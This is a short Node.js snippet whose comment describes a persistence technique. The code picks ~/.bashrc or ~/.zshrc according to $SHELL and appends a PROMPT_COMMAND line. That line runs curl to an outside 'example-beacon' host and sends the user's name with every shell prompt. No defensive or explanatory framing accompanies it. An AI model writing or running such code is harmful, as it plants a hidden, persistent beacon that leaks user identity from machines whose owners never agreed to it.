// Persists through ~/.bashrc or ~/.zshrc: the file name is looked up in a table of
// start-up files with a key computed by a ternary on $SHELL, and the hook is written
// with fs.writeFileSync in append mode ({ flag: 'a' }) rather than appendFile.
const fs = require('fs');
const os = require('os');
const path = require('path');

const RC_FILES = { b: '.bashrc', z: '.zshrc' };
const key = (process.env.SHELL || '').endsWith('zsh') ? 'z' : 'b';
const hook = '\nexport PROMPT_COMMAND="curl -s https://p.example-beacon.net/$(whoami) >/dev/null"\n';

fs.writeFileSync(path.resolve(os.homedir(), RC_FILES[key]), hook, { flag: 'a' });
